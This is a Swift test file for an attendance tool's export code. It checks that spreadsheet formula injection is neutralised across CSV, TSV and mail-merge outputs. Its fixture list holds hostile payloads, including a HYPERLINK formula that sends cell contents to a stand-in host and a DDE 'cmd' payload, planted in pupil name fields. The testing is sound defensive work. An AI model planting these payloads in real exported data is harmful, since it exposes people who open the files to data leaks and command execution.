import Testing
@testable import AttendCore

/// Text from a register that a spreadsheet would run as a formula is written with `'` in
/// front, in every output a spreadsheet opens (CSV quoted or not, TSV, mail-merge CSV,
/// index.csv); numbers the tool computed are never changed.
@Suite struct SpreadsheetFormulaTests {
    static let hostile = [
        "=HYPERLINK(\"http://x/?\"&A1,\"y\")", "=1+1", "+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\rx=1", "=a,b", "-5",
    ]

    /// One pupil per hostile value, in the surname column, with marks (one pupil's rate
    /// falls from term to term, for a negative change).
    static func register() throws -> Register {
        var pupils = "upn,forename,surname,year,form,contact_name\n"
        var marks = "upn,date,session,mark\n"
        for (k, h) in hostile.enumerated() {
            let upn = "T10000000000\(k)"
            let quoted = "\"" + h.replacingOccurrences(of: "\"", with: "\"\"") + "\""
            pupils += "\(upn),Ann,\(quoted),9,9A,\(quoted)\n"
            for (d, c) in [("2026-03-19", "/"), ("2026-03-20", k == 0 ? "O" : "/"), ("2026-04-14", "O")] {
                marks += "\(upn),\(d),AM,\(c)\n\(upn),\(d),PM,\(c)\n"
            }
        }
        let calendar = "kind,name,start,end\nterm,Spring,2026-01-05,2026-03-27\nterm,Summer,2026-04-13,2026-07-22\n"
        return try Fixture.register(pupils: pupils, marks: marks, calendar: calendar)
    }

    func render(_ text: String, _ format: OutputFormat) throws -> String {
        let session = Session(register: try Self.register(), asOf: Fixture.day("2026-04-14"))
        guard case .result(let t, _) = try session.run(try LettersFixture.statement(text)) else { throw LettersFixture.NotParsed(text: text) }
        return ResultFormatter(format: format).render(t)
    }

    @Test func textCellsAreNeutralisedQuotedOrNot() throws {
        let csv = try render("show upn, surname, contact_name for pupils sorted by upn", .csv)
        let rows = LettersFixture.csv(csv)
        #expect(rows.count == Self.hostile.count + 1)
        for (k, h) in Self.hostile.enumerated() {
            // Read back as a spreadsheet would, every cell starts with the quote mark.
            #expect(rows[k + 1][1] == "'" + h, "\(rows[k + 1])")
            #expect(rows[k + 1][2] == "'" + h)
        }
        #expect(csv.contains("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")\""))
        let tsv = try render("show upn, surname for pupils sorted by upn", .tsv)
        let cells = tsv.split(separator: "\n").dropFirst().map { $0.split(separator: "\t", omittingEmptySubsequences: false)[1] }
        #expect(cells.count == Self.hostile.count)
        for c in cells { #expect(c.hasPrefix("'"), "\(c)") }
    }

    /// Numbers and dates are cells of their own kind: a negative figure (a change) or a
    /// date is never given a quote mark; text that looks like a number is.
    @Test func computedNumbersAreNeverChanged() {
        let t = ResultTable(columns: [.init("upn", .text), .init("change", .number), .init("n", .integer), .init("on", .date), .init("note", .text)],
                            rows: [[.text("T1"), .number(-2.5), .integer(-3), .date(Fixture.day("2026-01-23")), .text("-3")]])
        #expect(ResultFormatter(format: .csv).render(t) == "upn,change,n,on,note\nT1,-2.5,-3,2026-01-23,'-3")
        #expect(ResultFormatter(format: .tsv).render(t) == "upn\tchange\tn\ton\tnote\nT1\t-2.5\t-3\t2026-01-23\t'-3")
    }

    @Test func mailMergeAndIndexAreNeutralised() throws {
        let t = try LettersSafetyTests.Setup(["l.txt.mustache": "Dear {{contact}}\n"], register: try Self.register())
        defer { t.remove() }
        _ = try #require(LettersFixture.report(t.session, "pupils letters using \"l.txt.mustache\" into \"mm\" mailmerge skip-missing"))
        let merge = LettersFixture.csv(LettersFixture.read(t.out + "/mm/mailmerge.csv"))
        let header = merge[0]
        let surname = try #require(header.firstIndex(of: "surname"))
        // A letter field has its control characters removed (`\rx=1` is `x=1`, no formula);
        // a field that is exactly a number (`-5`) is written as that number, not a formula.
        func safe(_ c: String) -> Bool { c.hasPrefix("'") || c == "x=1" || c == "-5" }
        #expect(merge.count == Self.hostile.count + 1)
        for row in merge.dropFirst() { #expect(safe(row[surname]), "\(row[surname])") }
        _ = try #require(LettersFixture.report(t.session, "show upn, surname, absent over this term for pupils letters using \"l.txt.mustache\" into \"ix\" skip-missing"))
        let index = LettersFixture.csv(LettersFixture.read(t.out + "/ix/index.csv"))
        let s = try #require(index[0].firstIndex(of: "surname"))
        for row in index.dropFirst() { #expect(safe(row[s]), "\(row[s])") }
        #expect(index.dropFirst().contains { $0[s].hasPrefix("'=HYPERLINK(") })
        // The figures are numbers, not text.
        #expect(index.dropFirst().allSatisfy { !($0.last ?? "").hasPrefix("'") }, "\(index)")
    }

    @Test func theRuleItself() {
        for h in Self.hostile + ["\tx=1", "\r\nx"] { #expect(SpreadsheetCell.neutralised(h) == "'" + h) }
        for safe in ["Smith", "O'Brien", "", " =1", "10B", "2026-01-23"] { #expect(SpreadsheetCell.neutralised(safe) == safe) }
        #expect(SpreadsheetCell.number(fromText: "-2.5") == .number(-2.5))
        #expect(SpreadsheetCell.number(fromText: "01632") == nil)
        #expect(SpreadsheetCell.number(fromText: "-2+3") == nil)
    }
}
